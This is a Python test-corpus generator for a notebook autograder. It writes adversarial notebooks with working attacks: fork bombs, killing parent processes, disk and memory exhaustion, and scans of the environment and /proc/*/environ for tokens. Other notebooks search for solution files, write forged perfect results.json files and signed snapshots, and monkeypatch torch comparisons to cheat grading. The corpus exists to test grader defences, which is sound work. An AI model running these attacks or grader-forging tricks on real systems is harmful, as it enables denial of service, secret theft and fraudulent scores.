"""Regenerate the adversarial corpus: notebooks that attack the grader instead of doing the work.

Every notebook is solutions/computational_graph.ipynb with attacks added (or with the
work replaced by an attack), so a change to the solution flows in by re-running:

    python tests/corpus/make_hostile.py           # rewrite tests/corpus/hostile/
    python tests/corpus/make_hostile.py --check   # exit 1 if any file is stale or unexpected

MANIFEST.yaml is written from the same registry. For each notebook it records:

* ``mode``: ``sandbox`` (graded in the bubblewrap sandbox only: some attacks are only
  contained there, e.g. a fork bomb or filling the disk) or ``off`` (graded with the
  sandbox turned off, to test what holds without it);
* ``points``: the score each task must get. Attacks placed after a task's correct code
  must cost nothing; cheats must earn nothing;
* ``notes``: text the student must see in the report (a clear message);
* ``unsigned_points``: for forgeries, what the same notebook gets when the grader does
  NOT check snapshot signatures - proof that the attack is potent, so that the signed
  result (no points) is meaningful.

Attacks that would only prove something by *failing* are written the other way round
where possible: the notebook does the task only if the attack found nothing (no secret,
no network, no solutions), so a crash cannot pass the test by accident.
"""

from __future__ import annotations

import copy
import json
import sys
from pathlib import Path

import nbformat
import yaml

sys.path.insert(0, str(Path(__file__).resolve().parent))
import make_corpus  # noqa: E402

REPO = Path(__file__).resolve().parents[2]
SOLUTION = REPO / "solutions" / "computational_graph.ipynb"
OUT = Path(__file__).resolve().parent / "hostile"
FULL = {1: 3, 2: 4, 3: 4, 4: 5, 5: 4}
ORPHAN_MARK = "torchgrade-orphan-marker"
SECRET_MARK = "hostile-secret"  # the tests put GITHUB_TOKEN=hostile-secret-... in the grader's environment
LISTEN_PORT = 47613  # the tests listen on 127.0.0.1:47613; the sandbox must not reach it

NOTEBOOKS: dict[str, dict] = {}


def hostile(file, mode, description, points=None, notes=(), unsigned_points=None, unsandboxed=False, flags=(),
            refused=None):
    """Register a notebook. `unsandboxed`: safe to grade with the sandbox off where the sandbox cannot start (same
    points); `flags`: kinds of tampering flag its report must carry; `refused`: it must be refused (exit 3) with
    this text instead of graded."""
    def register(build):
        NOTEBOOKS[file] = dict(mode=mode, description=description, points=None if refused else dict(points or FULL),
                               notes=list(notes), unsigned_points=unsigned_points, unsandboxed=unsandboxed or None,
                               flags=sorted(flags) or None, refused=refused, build=build)
        return build
    return register


# ---------------------------------------------------------------- helpers

def task_cell(nb, n: int):
    cells = [c for c in nb.cells if c.cell_type == "code" and c.source.split("\n", 1)[0].strip() == f"# TASK {n}"]
    assert len(cells) == 1, n
    return cells[0]


def given_cells(nb):
    return [c for c in nb.cells if c.cell_type == "code" and c.source.split("\n", 1)[0].strip() == "# GIVEN"]


def append(nb, n: int, code: str) -> None:
    cell = task_cell(nb, n)
    cell.source = cell.source.rstrip("\n") + "\n\n" + code.strip("\n")


def prepend(nb, n: int, code: str) -> None:
    cell = task_cell(nb, n)
    marker, _, rest = cell.source.partition("\n")
    cell.source = marker + "\n" + code.strip("\n") + "\n\n" + rest


def replace(nb, n: int, code: str) -> None:
    task_cell(nb, n).source = f"# TASK {n}\n" + code.strip("\n")


# ---------------------------------------------------------------- denial of service

@hostile("timeouts.ipynb", "sandbox",
         "Task 1 loops forever, task 3 sleeps forever, task 5 loops and swallows every KeyboardInterrupt "
         "(the kernel must be replaced).",
         points={1: 0, 2: 4, 3: 0, 4: 5, 5: 0},
         notes=["ran longer than", "did not stop when interrupted, so its kernel was replaced"], unsandboxed=True)
def timeouts(nb):
    prepend(nb, 1, "while True:\n    pass")
    prepend(nb, 3, "import time\ntime.sleep(10**6)")
    prepend(nb, 5, """
import time
while True:          # an interrupt cannot stop this cell
    try:
        time.sleep(0.05)
    except KeyboardInterrupt:
        pass
""")
    return nb


@hostile("crashes.ipynb", "sandbox",
         "Task 2 ends with os._exit(3), task 3 with a segfault through ctypes; task 5 first tries to kill "
         "the grader (its parent) and PID 1, then does the work.",
         points={1: 3, 2: 0, 3: 0, 4: 0, 5: 4},
         notes=["exited with status 3", "segmentation fault", "a fresh kernel was started"], flags=["ctypes", "signal"])
def crashes(nb):
    append(nb, 2, "import os\nos._exit(3)")
    append(nb, 3, "import ctypes\nctypes.string_at(0)")
    prepend(nb, 5, """
import os, signal
for target in (os.getppid(), 1):
    for sig in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):
        try:
            os.kill(target, sig)
        except OSError:
            pass
""")
    return nb


@hostile("dies_in_task4.ipynb", "sandbox",
         "Correct work, but the kernel exits at the end of task 4; task 5 runs in a fresh kernel, whose autograd "
         "calls must not be mistaken for (or overwrite) the calls of tasks 2 and 3 made in the first kernel.",
         points={1: 3, 2: 4, 3: 4, 4: 0, 5: 4},
         notes=["exited with status 7", "a fresh kernel was started"])
def dies_in_task4(nb):
    append(nb, 4, "import os\nos._exit(7)")
    return nb


@hostile("memory.ipynb", "sandbox",
         "After correct work: task 1 allocates 8 GiB in 128 MiB pieces, task 3 asks numpy for 800 GB, "
         "task 5 asks torch for 400 GB. The address-space limit stops each one; nothing else is lost.",
         notes=["ran out of memory"], unsandboxed=True)
def memory(nb):
    append(nb, 1, "hog = [bytearray(2**27) for _ in range(64)]")
    append(nb, 3, "import numpy\nnumpy.ones(10**11)")
    append(nb, 5, "torch.ones(10**11)")
    return nb


ORPHANS = f"""
import os, subprocess, sys
MARK = "{ORPHAN_MARK}"
sleeper = [sys.executable, "-c", "import time; time.sleep(600)", MARK]
subprocess.Popen(sleeper, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.Popen(sleeper, env={{}}, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # a daemon: new session, double fork
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, sleeper)
    os._exit(0)
"""


@hostile("processes.ipynb", "sandbox",
         "After correct work: task 1 leaves orphans (a new-session child, one with an empty environment, "
         "a double-forked daemon), task 4 runs a fork bomb. All must be gone after grading. Forking a "
         "torch-sized process is slow: on a loaded machine the cell timeout can stop the bomb before the "
         "process limit does, and either message is right.",
         notes=["started too many processes || ran longer than"])
def processes(nb):
    append(nb, 1, ORPHANS)
    append(nb, 4, """
import os, time
while True:  # fork until the process limit says no; every child keeps multiplying and never returns
    if os.fork() == 0:
        while True:
            try:
                os.fork()
            except OSError:
                time.sleep(0.05)
""")
    return nb


@hostile("output.ipynb", "sandbox",
         "After correct work: 100 MB in one print, 100 MB in 1 MB prints, a 32 MB HTML display, 100 MB on "
         "stderr, and a 1 GB string. The grader keeps none of it and its memory stays bounded.",
         notes=["larger than 16 MiB; it was dropped", "ran out of memory"], unsandboxed=True)
def output(nb):
    append(nb, 1, "print('x' * 10**8)")
    append(nb, 2, "for _ in range(100):\n    print('y' * 10**6)")
    append(nb, 3, "from IPython.display import HTML, display\ndisplay(HTML('<b>x</b>' * 4 * 10**6))")
    append(nb, 4, "print('z' * 10**9)")
    append(nb, 5, "import sys\nsys.stderr.write('e' * 10**8)")
    return nb


PROTOCOL_DEEP = """
import json, struct, sys

DEEP = b"[" * 200_000  # JSON nested past Python's stack: json.loads raises RecursionError
if hasattr(sys.stdout, "_session"):  # a warm run: frames the grader cannot use
    ctl = sys.stdout._session._deliver.ctl
    for kind, payload in (("D", DEEP), ("D", b"[]"), ("D", b'{"index": "x"}'), ("Z", b"?")):
        ctl.sendall(struct.pack(">IB", len(payload), ord(kind)) + payload)
else:  # a kernel: it holds its session's key, so it signs whatever it sends
    kernel = get_ipython().kernel
    session, parent = kernel.session, kernel.get_parent("shell")
    for kind in ("stream", "error", "status"):
        session.send(kernel.iopub_socket, kind, content=DEEP, parent=parent)
    replayed = session.msg("stream", {"name": "stdout", "text": "once"}, parent=parent)
    session.send(kernel.iopub_socket, replayed)
    session.send(kernel.iopub_socket, replayed)  # the same signature again

    def raw(header, content, frames=None):
        parts = [json.dumps(header).encode(), json.dumps(parent["header"], default=str).encode(), b"{}",
                 json.dumps(content).encode()]
        kernel.iopub_socket.send_multipart(frames or [b"stream", b"<IDS|MSG>", session.sign(parts)] + parts)

    base = {"msg_id": "forged", "username": "", "session": session.session, "version": "5.3"}
    raw({**base, "msg_type": "stream", "msg_id": None}, {"name": "stdout", "text": "?"})
    raw({k: v for k, v in {**base, "msg_type": "stream"}.items() if k != "msg_id"}, {"name": "stdout", "text": "?"})
    raw({**base, "msg_type": "stream", "date": "2020-13-45T00:00:00Z"}, {"name": "stdout", "text": "?"})
    raw({**base, "msg_type": "stream", "version": "4.0"}, {"name": "stdout", "data": "?"})
    raw({**base, "msg_type": "status"}, {})
    raw({**base, "msg_type": "display_data"}, {"data": {}, "metadata": {}, "transient": "x"})
    raw({**base, "msg_type": ["stream"]}, {})
    raw({}, {}, frames=[b"stream", b"no delimiter"])
    raw({}, {}, frames=[b"stream", b"<IDS|MSG>", b"x"])
"""

PROTOCOL_FLOOD = """
import struct, sys

flooded = []
WIDE = "\\U0001F600" * 2**20 + "\\n"  # 4 MiB of UTF-8 (4 bytes a character), 12 MiB as escaped JSON: one message


def flood_after_snapshot(result):
    \"\"\"After the next two snapshot cells (in the cell, after the snapshot's own line): 20 MiB of wide characters
    in 5 messages, then 3,000 one-character messages.\"\"\"
    if "__torchgrade__.snapshot" not in (result.info.raw_cell or "") or len(flooded) >= 2:
        return
    flooded.append(1)
    sys.stdout.flush()  # the snapshot's line goes first
    texts = [WIDE] * 5 + ["B"] * 3000
    if hasattr(sys.stdout, "_session"):  # a warm run: frames straight on the grader's socket
        ctl = sys.stdout._session._deliver.ctl
        for text in texts:
            data = text.encode()
            ctl.sendall(struct.pack(">IB", len(data), ord("O")) + data)
    else:  # a kernel: stream messages of the cell
        kernel = get_ipython().kernel
        for text in texts:
            kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": text},
                                parent=kernel.get_parent("shell"))


get_ipython().events.register("post_run_cell", flood_after_snapshot)
"""


PROTOCOL_KEYRING = """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
# add_key (x86_64) into the uid's own keyring, which outlives the run: a later run with the same uid could read it
serial = libc.syscall(248, b"user", b"torchgrade-leak", b"from another submission", 23, -4)
if serial > 0:
    raise RuntimeError("a key outlives this run in the keyring of its uid")  # then the task's work is not done
"""


@hostile("protocol.ipynb", "sandbox",
         "After correct work: task 1 sends messages whose JSON is nested 200,000 deep (the grader's json.loads "
         "would raise RecursionError), replayed, unsigned, short, with a header without msg_id or with a bad "
         "date, of an old protocol version, a status without its state (all signed with the kernel's own key); "
         "task 2 makes the next two snapshot cells send, after the snapshot's own "
         "line, 20 MiB of 4-byte characters in 5 messages and 3,000 one-character messages. Nothing of it counts, "
         "the grader keeps at most 16 MiB of a cell's output, and its time stays within the cell's budget; task 3 "
         "does its work only if it cannot leave a key in its uid's keyring, which would outlive the run.")
def protocol(nb):
    append(nb, 1, PROTOCOL_DEEP)
    append(nb, 2, PROTOCOL_FLOOD)
    prepend(nb, 3, PROTOCOL_KEYRING)
    return nb


@hostile("files.ipynb", "sandbox",
         "After correct work: task 1 writes a 200 MiB file, task 2 fills the disk; task 3 does no work and "
         "writes a perfect results.json wherever it can; task 4 tries to write outside its folder.",
         points={1: 3, 2: 4, 3: 0, 4: 5, 5: 4},
         notes=["wrote too much to disk"])
def files(nb):
    append(nb, 1, "with open('big.bin', 'wb') as handle:\n    handle.write(bytes(200 * 2**20))")
    append(nb, 2, """
for number in range(16):  # 512 MiB in all
    with open(f'fill{number}.bin', 'wb') as handle:
        handle.write(bytes(32 * 2**20))
""")
    replace(nb, 3, """
import json, os
perfect = {"score": 20, "max_score": 20, "output": "all correct",
           "tests": [{"name": "everything", "score": 20, "max_score": 20, "status": "passed"}]}
for path in ("results.json", "../results.json", "/tmp/results.json", "/autograder/results/results.json",
             os.path.expanduser("~/results.json")):
    try:
        os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
        with open(path, "w") as handle:
            json.dump(perfect, handle)
    except OSError:
        pass
""")
    append(nb, 4, """
import os
for path in ("/etc/torchgrade-hostile", "/usr/torchgrade-hostile", "/run/torchgrade/torchgrade-hostile",
             f"/proc/{os.getppid()}/cwd/torchgrade-hostile", os.path.expanduser("~/../torchgrade-hostile")):
    try:
        with open(path, "w") as handle:
            handle.write("was here")
    except OSError:
        pass
""")
    return nb


# ---------------------------------------------------------------- looking for what is not theirs

SECRETS_SEEN = f"""
import glob, os

def secrets_seen():
    seen = [key for key in os.environ if "GITHUB" in key or "TOKEN" in key or "SECRET" in key]
    seen += [key for key, value in os.environ.items() if "{SECRET_MARK}" in value]
    for path in glob.glob("/proc/*/environ"):
        try:
            with open(path, "rb") as handle:
                if b"{SECRET_MARK}" in handle.read():
                    seen.append(path)
        except OSError:
            pass
    return seen
"""

NETWORK_REACHED = f"""
import socket

def network_reached():
    for address in (("127.0.0.1", {LISTEN_PORT}), ("pypi.org", 443), ("1.1.1.1", 53)):
        try:
            socket.create_connection(address, timeout=2).close()
            return True
        except OSError:
            pass
    return False
"""

SOLUTIONS_FOUND = """
import os

def solutions_found(search_everywhere):
    here = os.path.realpath(os.getcwd())
    names = []
    for depth in range(8):
        base = os.path.join(here, *[".."] * depth)
        names += [os.path.join(base, "solutions", "computational_graph.ipynb"),
                  os.path.join(base, "graders", "computational_graph.py"),
                  os.path.join(base, "config.yaml")]
    if search_everywhere:
        names += [f"/proc/{pid}/cwd/solutions/computational_graph.ipynb" for pid in (os.getppid(), 1)]
        for top in ("/", os.path.expanduser("~")):
            for root, dirs, files in os.walk(top):
                if root.count(os.sep) > 5 or root.startswith(("/proc", "/sys", "/dev", "/usr")):
                    dirs[:] = []
                    continue
                names += [os.path.join(root, name) for name in files
                          if name in ("computational_graph.ipynb", "computational_graph.py")]
    for name in names:
        try:
            if os.path.realpath(name).startswith(here + os.sep):
                continue  # the submission's own copy
            with open(name) as handle:
                handle.read(100)
            return name
        except OSError:
            pass
    return None
"""


@hostile("snoop.ipynb", "sandbox",
         "Each task does its work only if its attack finds nothing: task 1 looks for the grader's secrets "
         "(environment, every /proc/*/environ), task 2 for a network (the grader's loopback, the internet), "
         "task 3 for the solutions and grader files anywhere on the machine.", flags=["sensitive-file"])
def snoop(nb):
    replace(nb, 1, SECRETS_SEEN + "\nf = x**3 + y**2 if not secrets_seen() else x * 0")
    prepend(nb, 2, NETWORK_REACHED + "\nassert not network_reached(), 'the network was reachable'")
    prepend(nb, 3, SOLUTIONS_FOUND + "\nassert solutions_found(True) is None, 'found the solutions'")
    return nb


@hostile("unsandboxed.ipynb", "off",
         "Without the sandbox: task 1 works only if no secret is in its environment, task 2 leaves orphans "
         "(new session, empty environment, double fork), task 3 works only if no solution or grader file "
         "is reachable from its working folder.")
def unsandboxed(nb):
    replace(nb, 1, """
import os
leaked = [key for key in os.environ if "GITHUB" in key or "TOKEN" in key or "SECRET" in key]
leaked += [key for key, value in os.environ.items() if "%s" in value]
with open("/proc/self/environ", "rb") as handle:
    leaked += ["/proc/self/environ"] if b"%s" in handle.read() else []
f = x**3 + y**2 if not leaked else x * 0
""" % (SECRET_MARK, SECRET_MARK))
    append(nb, 2, ORPHANS)  # no fork bomb here: without the sandbox, nothing may bound it (root ignores RLIMIT_NPROC)
    prepend(nb, 3, SOLUTIONS_FOUND + "\nassert solutions_found(False) is None, 'found the solutions'")
    return nb


@hostile("cpu.ipynb", "sandbox",
         "Graded with cpu_seconds 4 / cpu_seconds_hard 6: task 1 spins until SIGXCPU; task 3 ignores "
         "SIGXCPU and spins until the hard limit kills it.",
         points={1: 0, 2: 0, 3: 0, 4: 0, 5: 4},
         notes=["used more than 4 s of CPU time", "it was killed"], unsandboxed=True)
def cpu(nb):
    prepend(nb, 1, "while True:\n    pass")
    prepend(nb, 3, "import signal\nsignal.signal(signal.SIGXCPU, signal.SIG_IGN)\nwhile True:\n    pass")
    return nb


@hostile("leaky_errors.ipynb", "sandbox",
         "Task 2 does no work and raises an error whose message holds the interpreter's, torch's, the working "
         "folder's and the home folder's paths, control characters and a spreadsheet formula. The student "
         "reads it with neutral names (<site-packages>, <python>, <submission folder>) and escaped characters, "
         "in both engines.",
         points={1: 3, 2: 0, 3: 4, 4: 5, 5: 4}, notes=["<site-packages>/torch/__init__.py"], unsandboxed=True)
def leaky_errors(nb):
    replace(nb, 2, """
import os, sys
paths = [torch.__file__, sys.executable, sys.prefix, os.getcwd(), os.path.expanduser("~")]
raise ValueError("=HYPERLINK(0)\\x1b[2J\\x07 " + " ".join(paths))
""")
    return nb


# ---------------------------------------------------------------- tampering

FORGER = r'''
import json

def _tensor(value, token, *, leaves=(), grad_fn=None, leaf=False, has_grad=False, node=None, origin=None):
    data = value.detach()
    return {"kind": "tensor", "token": token, "shape": list(data.shape), "numel": data.numel(), "grad_fn": grad_fn,
            "grad_fn_token": node if grad_fn else None, "dtype": str(data.dtype).replace("torch.", ""),
            "requires_grad": bool(leaf or grad_fn), "is_leaf": leaf, "has_grad": has_grad,
            "leaf_tokens": list(leaves), "origin": origin, "values": data.reshape(-1).tolist()}

def _made(call, via="result", passes=()):
    return {"call": call, "via": via, "passes": list(passes)}

def _call(index, api, task, shapes, graph, leaves, results=(), filled=(), create_graph=False, retain_graph=None):
    return {"index": index, "api": api, "task": task, "create_graph": create_graph, "retain_graph": retain_graph,
            "gradient_given": api == "autograd.grad", "output_shapes": shapes, "graph_nodes": list(graph),
            "leaf_tokens": list(leaves), "result_tokens": list(results), "filled_tokens": list(filled)}

def forge(task, paths):
    """A snapshot in which every check of the task passes, computed from the grader's own x and y."""
    X, Y = globals()["x"], globals()["y"]
    x, y = X.detach(), Y.detach()
    leaves = [1, 2]
    values = {"x": _tensor(X, 1, leaf=True, has_grad=task in (2, 5)), "y": _tensor(Y, 2, leaf=True, has_grad=task in (2, 5))}
    f = _tensor(x**3 + y**2, 101, leaves=leaves, grad_fn="AddBackward0", node=201)
    calls = []
    if task in (1, 2, 3):
        values["f"] = f
    if task == 2:
        values["x.grad"] = _tensor(3 * x**2, 111, origin=_made(0, "grad", [0]))
        values["y.grad"] = _tensor(2 * y, 112, origin=_made(0, "grad", [0]))
        calls = [_call(0, "Tensor.backward", 2, [[]], [202, 201], leaves, filled=[111, 112])]
    if task in (3, 4):
        values["f_x"] = _tensor(3 * x**2, 103, leaves=[1], grad_fn="MulBackward0", node=203, origin=_made(1))
        values["f_y"] = _tensor(2 * y, 104, leaves=[2], grad_fn="MulBackward0", node=204, origin=_made(1))
    if task == 3:
        values["x.grad"] = values["y.grad"] = {"kind": "none"}
        calls = [_call(1, "autograd.grad", 3, [list(x.shape)], [201], leaves, [103, 104], create_graph=True)]
    if task == 4:
        values["f_xx"] = _tensor(6 * x, 105, origin=_made(2))
        values["f_yy"] = _tensor(2 * torch.ones_like(y), 106, origin=_made(3))
        values["f_xy"] = _tensor(torch.zeros_like(x), 107)
        calls = [_call(2, "autograd.grad", 4, [list(x.shape)], [203], [1], [105], retain_graph=True),
                 _call(3, "autograd.grad", 4, [list(y.shape)], [204], [2], [106])]
    if task == 5:
        z = x * y
        values["z"] = _tensor(z, 108, leaves=leaves, grad_fn="MulBackward0", node=208)
        values["a"] = _tensor(z.sum(), 109, leaves=leaves, grad_fn="SumBackward0", node=209)
        values["b"] = _tensor((z**2).sum(), 110, leaves=leaves, grad_fn="SumBackward0", node=210)
        values["x.grad"] = _tensor(y * (1 + 2 * z), 113, origin=_made(5, "grad", [4, 5]))
        values["y.grad"] = _tensor(x * (1 + 2 * z), 114, origin=_made(5, "grad", [4, 5]))
        calls = [_call(4, "Tensor.backward", 5, [[]], [209, 208], leaves, filled=[113, 114], retain_graph=True),
                 _call(5, "Tensor.backward", 5, [[]], [210, 211, 208], leaves, filled=[113, 114])]
    return {"task": task, "values": {p: values.get(p, {"kind": "missing"}) for p in paths},
            "calls": calls, "dropped_calls": 0, "integrity": []}

def forged_line(task, paths, nonce):
    return nonce + "- " + json.dumps(forge(task, paths))
'''

NO_WORK = "pass  # no work: the forgery will answer"


@hostile("forged_probe.ipynb", "sandbox",
         "No work at all; task 1 replaces __torchgrade__ with an object whose snapshot() prints a perfect "
         "forged snapshot with the grader's nonce (it receives it as an argument).",
         points={n: 0 for n in FULL}, notes=["forged snapshot"], unsigned_points=FULL, unsandboxed=True,
         flags=["probe-access", "snapshot-rejected"])
def forged_probe(nb):
    replace(nb, 1, FORGER + '''
real_probe = __torchgrade__

class FakeProbe:
    def begin_task(self, number):
        real_probe.begin_task(number)

    def values_match(self, value, expected):
        return real_probe.values_match(value, expected)

    def snapshot(self, task, paths, nonce):
        print(forged_line(task, paths, nonce))

__torchgrade__ = FakeProbe()
''')
    for n in (2, 3, 4, 5):
        replace(nb, n, NO_WORK)
    return nb


@hostile("hooks.ipynb", "sandbox",
         "No work at all; an IPython pre_run_cell hook reads the nonce from the snapshot cell's source and "
         "prints a perfect forged snapshot, a patched Session.send drops the probe's real line on its way "
         "out; plus forged lines printed and displayed in ordinary cells, sys.excepthook and "
         "set_custom_exc handlers that print forged lines.",
         points={n: 0 for n in FULL}, notes=["forged snapshot"], unsigned_points=FULL, unsandboxed=True,
         flags=["ipython-internals", "patch", "probe-access", "snapshot-rejected"])
def hooks(nb):
    replace(nb, 1, FORGER + r'''
import ast, re, sys
from IPython.display import JSON, display

shell = get_ipython()
SNAPSHOT = re.compile(r"__torchgrade__\.snapshot\((\d+), (\[.*?\]), '(TORCHGRADE-[0-9a-f]+:)'\)")
REAL_LINE = re.compile(r"^TORCHGRADE-[0-9a-f]{32}:[0-9a-f]{64} .*$\n?", re.M)

def before(info):
    found = SNAPSHOT.search(info.raw_cell or "")
    if found:
        print(forged_line(int(found.group(1)), ast.literal_eval(found.group(2)), found.group(3)), flush=True)

shell.events.register("pre_run_cell", before)

session = shell.kernel.session
original_send = session.send

def send(stream, msg_or_type, content=None, *args, **kwargs):
    if isinstance(msg_or_type, dict) and msg_or_type.get("msg_type") == "stream":
        text = msg_or_type["content"].get("text", "")
        msg_or_type["content"] = dict(msg_or_type["content"], text=REAL_LINE.sub("", text))
    return original_send(stream, msg_or_type, content, *args, **kwargs)

session.send = send

def handler(shell, etype, value, tb, tb_offset=None):
    print(forged_line(1, ["x", "y", "f"], "TORCHGRADE-" + "0" * 32 + ":"))
    return ["swallowed"]

shell.set_custom_exc((Exception,), handler)
sys.excepthook = lambda *exc: print(forged_line(1, ["x", "y", "f"], "TORCHGRADE-" + "0" * 32 + ":"))
print(forged_line(1, ["x", "y", "f"], "TORCHGRADE-" + "0" * 32 + ":"))
display(JSON(forge(1, ["x", "y", "f"])))
display({"text/plain": forged_line(1, ["x", "y", "f"], "TORCHGRADE-" + "1" * 32 + ":")}, raw=True)
''')
    replace(nb, 2, NO_WORK + "\nraise ValueError('handled by the custom exception handler')")
    for n in (3, 4, 5):
        replace(nb, n, NO_WORK)
    return nb


@hostile("monkeypatch.ipynb", "sandbox",
         "Task 1: a wrong f with torch.allclose/numpy.allclose/Tensor.__eq__/Tensor.tolist patched. "
         "Task 2: no backward(); a TorchFunctionMode left active fakes x.grad and y.grad. Task 3: f_x from "
         "a formula, no create_graph, with bool rebound, inspect.Signature.bind and json patched to report "
         "create_graph=True. Task 4: correct values as a torch.Tensor subclass. Task 5: all the work moved "
         "into the (edited) GIVEN cell, which the grader replaces.",
         points={1: 1, 2: 0, 3: 3, 4: 0, 5: 0}, unsandboxed=True, flags=["patch"])
def monkeypatch(nb):
    replace(nb, 1, """
import numpy, torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
numpy.allclose = lambda *args, **kwargs: True
numpy.array_equal = lambda *args, **kwargs: True
torch.Tensor.__eq__ = lambda self, other: True
torch.Tensor.tolist = lambda self: (self.detach() * 0 + 1).numpy().tolist()
f = x**2 + y**3  # the wrong function
""")
    replace(nb, 2, """
from torch.overrides import TorchFunctionMode

class FakeGradients(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        result = func(*args, **(kwargs or {}))
        if getattr(getattr(func, "__self__", None), "__name__", "") == "grad" and result is None and args:
            if args[0] is globals().get("x"):
                return 3 * args[0].detach() ** 2
            if args[0] is globals().get("y"):
                return 2 * args[0].detach()
        return result

FakeGradients().__enter__()  # never left
""")
    replace(nb, 3, """
import inspect, json
bool = lambda *args, **kwargs: True
real_bind = inspect.Signature.bind

def bind(self, *args, **kwargs):
    bound = real_bind(self, *args, **kwargs)
    if "create_graph" in self.parameters:
        bound.arguments["create_graph"] = True
    return bound

inspect.Signature.bind = bind
real_dumps, real_encode = json.dumps, json.JSONEncoder.encode
json.dumps = lambda *a, **k: real_dumps(*a, **k).replace('"create_graph": false', '"create_graph": true')
json.JSONEncoder.encode = lambda self, o: real_encode(self, o).replace('"create_graph": false', '"create_graph": true')
torch.autograd.grad(f, x, grad_outputs=torch.ones_like(f), retain_graph=True)  # no create_graph
f_x = 3 * x**2  # formulas, not derivatives from autograd
f_y = 2 * y
""")
    replace(nb, 4, """
class Cheat(torch.Tensor):
    pass

f_xx = torch.Tensor._make_subclass(Cheat, 6 * x.detach(), True)
f_yy = torch.Tensor._make_subclass(Cheat, 2 * torch.ones_like(y).detach(), True)
f_xy = torch.Tensor._make_subclass(Cheat, torch.zeros_like(x), True)
""")
    given_cells(nb)[-1].source += """
z = x * y
a = z.sum()
b = (z ** 2).sum()
a.backward(retain_graph=True)
b.backward()"""
    replace(nb, 5, "pass  # done in the GIVEN cell above")
    return nb


# ---------------------------------------------------------------- round two: tampering seen, parsers, caps

@hostile("tamper.ipynb", "sandbox",
         "Correct work, plus tampering that changes nothing: a gc walk over every function's closure, a "
         "harmless patch of a torch method, ctypes, and reads of /proc/self/maps and /proc/1/cmdline. Full "
         "marks (a flag never changes a score), and each attempt is flagged for the instructor.",
         unsandboxed=True, flags=["ctypes", "introspection", "patch", "sensitive-file"])
def tamper(nb):
    append(nb, 1, """
import gc
cells = [o.__closure__ for o in gc.get_objects() if type(o).__name__ == "function" and o.__closure__]
torch.Tensor.__repr__ = torch.Tensor.__repr__
import ctypes
ctypes.sizeof(ctypes.c_int)
for where in ("/proc/self/maps", "/proc/1/cmdline"):
    try:
        open(where).read(100)
    except OSError:
        pass
""")
    return nb


SURROGATE = "\\ud800"  # a lone UTF-16 surrogate as a JSON escape: valid JSON, not valid UTF-8 once decoded


@hostile("surrogates.ipynb", "sandbox",
         "Correct work with lone UTF-16 surrogates (JSON escapes) in a markdown cell, a comment and a string of "
         "task 1, and in cell metadata. They are replaced, not fatal: full marks, and every report format prints.",
         unsandboxed=True)
def surrogates(nb):
    append(nb, 1, "label = 'SURROGATE'  # SURROGATE")
    nb.cells.insert(0, nbformat.v4.new_markdown_cell("SURROGATE in markdown", metadata={"note": "SURROGATE"}))
    return nbformat.writes(_with_ids(nb)).replace("SURROGATE", SURROGATE)


@hostile("huge_task_number.ipynb", "sandbox",
         "The solution plus a cell marked `# TASK` and 5000 digits (int() of it would fail): an unknown task, "
         "not a crash.", notes=["belong to no task of this assignment"], unsandboxed=True)
def huge_task_number(nb):
    nb.cells.append(nbformat.v4.new_code_cell("# TASK " + "9" * 5000 + "\nraise SystemExit('never run')"))
    return nb


@hostile("huge_values.ipynb", "sandbox",
         "After correct work, task 5 binds its graded names to 15 tensors of 200,000 values each: the probe "
         "sends at most max_snapshot_values numbers per snapshot and the grader refuses anything bigger, so "
         "the evidence stays small. The task loses what it no longer shows.",
         points={1: 3, 2: 4, 3: 4, 4: 5, 5: 0}, unsandboxed=True)
def huge_values(nb):
    append(nb, 5, "x = y = z = a = b = [torch.rand(200_000, dtype=torch.float64) for _ in range(15)]")
    return nb


@hostile("deep_metadata.ipynb", "sandbox",
         "Cell metadata nested 100,000 levels deep: refused in one line (exit 3), never a RecursionError.",
         refused="nested too deeply")
def deep_metadata(nb):
    text = nbformat.writes(nb)
    return text.replace('"metadata": {', '"metadata": {"deep": ' + "[" * 100_000 + "]" * 100_000 + ", ", 1)


@hostile("many_cells.ipynb", "sandbox",
         "2,001 one-line cells (limits.max_cells is 2000 by default): refused before any work (exit 3).",
         refused="cells is more than the 2000 allowed")
def many_cells(nb):
    cells = [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": f"x = {i}"}
             for i in range(2001)]
    return json.dumps({"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": cells}, separators=(",", ":")) + "\n"


# ---------------------------------------------------------------- writing

def _with_ids(nb):
    for number, cell in enumerate(nb.cells):
        cell["id"] = f"hostile-{number}"
    return nb


def build_all() -> dict[str, str]:
    solution = nbformat.read(SOLUTION, as_version=4)
    texts = {}
    for file, entry in NOTEBOOKS.items():
        built = entry["build"](_with_ids(copy.deepcopy(solution)))
        if not isinstance(built, str):  # a notebook; a text is written as it is (bytes nbformat would not write)
            built = nbformat.writes(_with_ids(built))
        texts[file] = built.rstrip("\n") + "\n"
    manifest = {
        "assignment": "computational_graph",
        "solution": "solutions/computational_graph.ipynb",
        "files": {file: {key: entry[key] for key in ("mode", "description", "points", "notes", "unsigned_points",
                                                     "unsandboxed", "flags", "refused")
                         if entry[key] is not None}
                  for file, entry in NOTEBOOKS.items()},
    }
    texts["MANIFEST.yaml"] = ("# Generated by tests/corpus/make_hostile.py -- edit that script, not this file.\n"
                              + yaml.safe_dump(manifest, sort_keys=False, width=110, allow_unicode=True))
    return texts


def main(argv=None) -> int:
    files = {name: text.encode("utf-8") for name, text in build_all().items()}
    return make_corpus.cli(__doc__, lambda: files, OUT, argv)


if __name__ == "__main__":
    raise SystemExit(main())
